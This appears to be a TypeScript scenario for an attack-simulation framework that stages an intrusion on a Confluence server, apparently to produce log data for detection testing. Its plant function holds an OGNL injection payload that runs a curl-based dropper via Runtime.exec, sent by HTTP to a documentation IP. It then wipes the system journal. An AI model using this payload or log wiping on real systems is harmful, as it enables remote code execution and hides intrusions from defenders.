// Played by a toy with the access log of Confluence's Tomcat.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { confluence } from '../../products.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.toy(confluence)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.atl/java-agent', fetch: 'curl' })
  stage.mark('occurrence')
  const expression = `\${(#a=@java.lang.Runtime@getRuntime().exec("${line}"))}`
  await stage.http('203.0.113.97', `:8090/${encodeURIComponent(expression)}/`)
  await wipe(stage, ['journal'])
}
